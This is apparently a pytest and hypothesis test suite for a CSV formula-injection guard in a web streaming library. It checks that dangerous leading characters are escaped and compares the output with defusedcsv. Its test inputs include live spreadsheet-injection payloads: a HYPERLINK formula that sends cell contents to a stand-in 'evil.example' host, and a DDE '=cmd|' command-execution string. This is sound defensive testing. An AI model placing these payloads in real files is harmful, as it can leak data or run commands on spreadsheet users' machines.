"""The CSV formula guard (``tgstream.renderers.csvsafe``)."""
from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal
from fractions import Fraction

import pytest
import webtest
from hypothesis import example, given
from hypothesis import strategies as st

import tgstream
from tests.conftest import build_app
from tgstream.renderers.csvsafe import SEPARATORS, cell_text, guard_cell, guard_row
from tgstream.settings import parse_settings

# What spreadsheets execute (OWASP, ASVS 1.2.10) and what defusedcsv adds.
DANGEROUS = '=+-@\t\r\0|%'

dangerous_text = st.builds(
    lambda first, rest: first + rest, st.sampled_from(DANGEROUS), st.text()
)
text = st.one_of(st.text(), dangerous_text)
numbers = st.one_of(
    st.integers(),
    st.floats(),
    st.decimals(),
    st.fractions(),
    st.booleans(),
)
cells = st.one_of(text, numbers, st.none(), st.dates())
rows = st.lists(cells, max_size=8)


def looks_numeric(cell: str) -> bool:
    """A minus and digits, commas and dots only: a number to a spreadsheet."""
    body = cell[1:] if cell.startswith('-') else cell
    return body != '' and all(c in '0123456789,.' for c in body)


def write(rows_, writer=csv.writer) -> str:
    out = io.StringIO()
    writer(out).writerows(rows_)
    return out.getvalue()


# the separators and line breaks after which the guard escapes a formula
_SEPS = ''.join(map(re.escape, sorted(SEPARATORS)))


def unescape(cell: str) -> str:
    # the leading ', the pipe escapes, and the ' before a formula that
    # follows a separator inside the cell
    assert cell.startswith("'")
    text = cell[1:].replace('\\|', '|')
    return re.sub(r'(?<=[%s])([ "]*)\'(?=[=+\-@])' % _SEPS, r'\1', text)


def unescapings(cell: str) -> set[str]:
    # a cell whose first character is safe (''\n=1'') gets only the inner
    # escapes, no leading ' (found by hypothesis: ['', '', '\n='])
    inner = re.sub(r'(?<=[%s])([ "]*)\'(?=[=+\-@])' % _SEPS, r'\1', cell)
    found = {inner}
    if cell.startswith("'"):
        found.add(unescape(cell))
    return found


@given(st.lists(rows, max_size=5))
@example([['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
           '@SUM(1+1)', '+1+1', '-2+3', '\t=1+1', '\r=1+1', '\0=1', '-5', -5]])
def test_no_output_cell_starts_with_a_dangerous_character(table):
    guarded = [guard_row(row) for row in table]
    # the spreadsheet's view: the CSV file as written, read back
    for in_row, out_row, read_row in zip(
        table, guarded, csv.reader(io.StringIO(write(guarded), newline=''))
    ):
        for index, (original, cell, read) in enumerate(zip(in_row, out_row, read_row)):
            if original is None or isinstance(original, (int, float, Decimal, Fraction)):
                # numbers are left alone: -5 stays -5; except a row's first
                # cell when the rest is not numbers (issue 22: -5,5+HYPERLINK)
                assert cell is original or (index == 0 and cell == "'" + cell_text(original))
                continue
            assert read == '' or read[0] not in DANGEROUS or looks_numeric(read)


@given(rows)
def test_safe_values_round_trip_unchanged(row):
    safe = ['first'] + [  # (a first cell "-5" depends on the row: test_guard_property)
        cell for cell in row
        if not isinstance(cell, str) or cell == '' or cell[0] not in DANGEROUS
        or looks_numeric(cell)
    ]
    guarded = guard_row(safe)
    assert all(out is cell for out, cell in zip(guarded, safe))
    assert len(guarded) == len(safe)
    assert write([guarded]) == write([safe])


@given(dangerous_text.filter(lambda s: not looks_numeric(s)))
def test_neutralised_cells_keep_their_text(cell):
    out = guard_cell(cell)
    assert out != cell and out.startswith("'")
    assert unescape(out) == cell  # only a prefix and pipe escapes are added


@pytest.mark.parametrize(
    'cell, expected',
    [
        ('=1+1', "'=1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd\\|' /C calc'!A0"),
        ('@SUM(A1:A9)', "'@SUM(A1:A9)"),
        ('+1', "'+1"),  # only "-" numbers are kept, as in defusedcsv
        ('-1e5', "'-1e5"),
        ('-', "'-"),
        ('\tx', "'\tx"),
        ('\r=1', "'\r'=1"),  # a reader splitting on CR sees '=1
        ('x;=cmd', "x;'=cmd"),  # ... or on ;
        ('x, -5', "x, '-5"),  # numbers too, inside a cell (issue 22)
        ('%0A', "'%0A"),
        ('-5', '-5'),
        ('-1,234.50', '-1,234.50'),
        ('-5\n', "'-5\n"),
        ('5-', '5-'),
        (' =1+1', ' =1+1'),
        ('', ''),
    ],
)
def test_cells(cell, expected):
    assert guard_cell(cell) == expected


@pytest.mark.parametrize(
    'number', [-5, -5.5, float('-inf'), Decimal('-5'), Fraction(-1, 3), True, 0]
)
def test_numbers_are_left_alone(number):
    assert guard_cell(number) is number
    assert guard_row([number])[0] is number


def test_other_objects_are_judged_by_their_text():
    class Formula:
        def __str__(self):
            return '=1+1'

    day = datetime.date(2024, 1, 2)
    assert guard_row([day, Formula(), None]) == [day, "'=1+1", None]


def test_guard_row_returns_a_new_list():
    row = ('=1', 'a')
    assert guard_row(row) == ["'=1", 'a']
    listed = ['=1', 'a']
    guard_row(listed)
    assert listed == ['=1', 'a']


def test_formula_guard_setting_defaults_to_true():
    assert parse_settings({}).csv_formula_guard is True
    assert parse_settings({'tgstream.csv.formula_guard': 'off'}).csv_formula_guard is False


# defusedcsv is the reference: wherever it has a rule, the guard writes the
# same file. (It has none for a leading tab, CR or NUL, it treats "-5\n" as
# a number, and it leaves a formula after an inner separator or line break,
# which the guard escapes for readers that split there.)
_AFTER_INNER_SEPARATOR = re.compile(r'[%s][ "]*[=+\-@]' % _SEPS)


def _defusedcsv_rules_apply(cell) -> bool:
    return not (isinstance(cell, str) and (
        cell[:1] in ('\t', '\r', '\0') or cell.endswith('\n')
        or _AFTER_INNER_SEPARATOR.search(cell)))


@given(st.lists(rows, max_size=5))
def test_same_output_as_defusedcsv(table):
    defusedcsv = pytest.importorskip('defusedcsv.csv')
    # (defusedcsv has no rule for a row's first cell either: see guard_row)
    table = [['first'] + [c for c in row if _defusedcsv_rules_apply(c)] for row in table]
    ours = write([guard_row(row) for row in table])
    assert ours == write(table, writer=defusedcsv.writer)


# -- the csv renderer applies the guard --------------------------------------

HOSTILE_ROW = ['=1+1', -5, '-5', '@SUM(A1)', None, 'plain']
GUARDED_ROW = ["'=1+1", '-5', '-5', "'@SUM(A1)", '', 'plain']
RAW_ROW = ['=1+1', '-5', '-5', '@SUM(A1)', '', 'plain']


def csv_app(settings=None, **stream_options) -> webtest.TestApp:

    def export(request):
        yield {'=name': '=HYPERLINK("http://evil.example")', 'n': -5}
        yield tgstream.Batch([HOSTILE_ROW[:2], HOSTILE_ROW[2:4]])

    def rows(request):
        yield from request.json_body
        yield tgstream.Batch(request.json_body)  # the encode_batch path

    def plain(request):
        yield HOSTILE_ROW

    def setup(config):
        for name, view in (('export', export), ('rows', rows), ('plain', plain)):
            config.add_route(name, '/' + name)
            config.add_view(view, route_name=name, renderer='csv', stream=True,
                            stream_options=dict(stream_options) or None)

    return webtest.TestApp(build_app(setup, settings))


def read_csv(response) -> list:
    return list(csv.reader(io.StringIO(response.text, newline='')))


@pytest.fixture(scope='module')
def guarded_app() -> webtest.TestApp:
    return csv_app()


def test_csv_renderer_guards_by_default(guarded_app):
    app = guarded_app
    assert read_csv(app.get('/plain')) == [GUARDED_ROW]
    # the header (from the first mapping's keys) and batches too
    assert read_csv(app.get('/export')) == [
        ["'=name", 'n'],
        ['\'=HYPERLINK("http://evil.example")', '-5'],
        GUARDED_ROW[:2],
        ["'-5", "'@SUM(A1)"],  # a first cell "-5" before a non-number
    ]


@pytest.mark.parametrize(
    'settings, options, expected',
    [
        ({'tgstream.csv.formula_guard': 'false'}, {}, RAW_ROW),
        ({}, {'formula_guard': False}, RAW_ROW),
        ({'tgstream.csv.formula_guard': 'false'}, {'formula_guard': True}, GUARDED_ROW),
        ({'tgstream.csv.formula_guard': 'true'}, {}, GUARDED_ROW),
    ],
)
def test_setting_and_per_view_switch(settings, options, expected):
    app = csv_app(settings, **options)
    assert read_csv(app.get('/plain')) == [expected]


json_cells = st.one_of(
    text, st.integers(), st.floats(allow_nan=False, allow_infinity=False), st.none()
)


@given(st.lists(st.lists(json_cells, min_size=3, max_size=3), min_size=1, max_size=4))
@example([['', '', '\n=']])
def test_csv_renderer_output_has_no_formula_cells(guarded_app, table):
    table = [[c.replace('\0', '') if isinstance(c, str) else c for c in row]
             for row in table]  # JSON in, text out: NUL is not the point here
    written = read_csv(guarded_app.post_json('/rows', table))
    assert len(written) == 2 * len(table)
    for in_row, out_row in zip(table + table, written):
        for index, (original, cell) in enumerate(zip(in_row, out_row)):
            if isinstance(original, (int, float)):
                # numbers untouched, even -1e-07 (but a first cell: guard_row)
                assert cell == str(original) or (index == 0 and cell == "'" + str(original))
            elif original is None:
                assert cell == ''
            else:
                assert cell == '' or cell[0] not in DANGEROUS or looks_numeric(cell)
                assert cell == original or original in unescapings(cell)
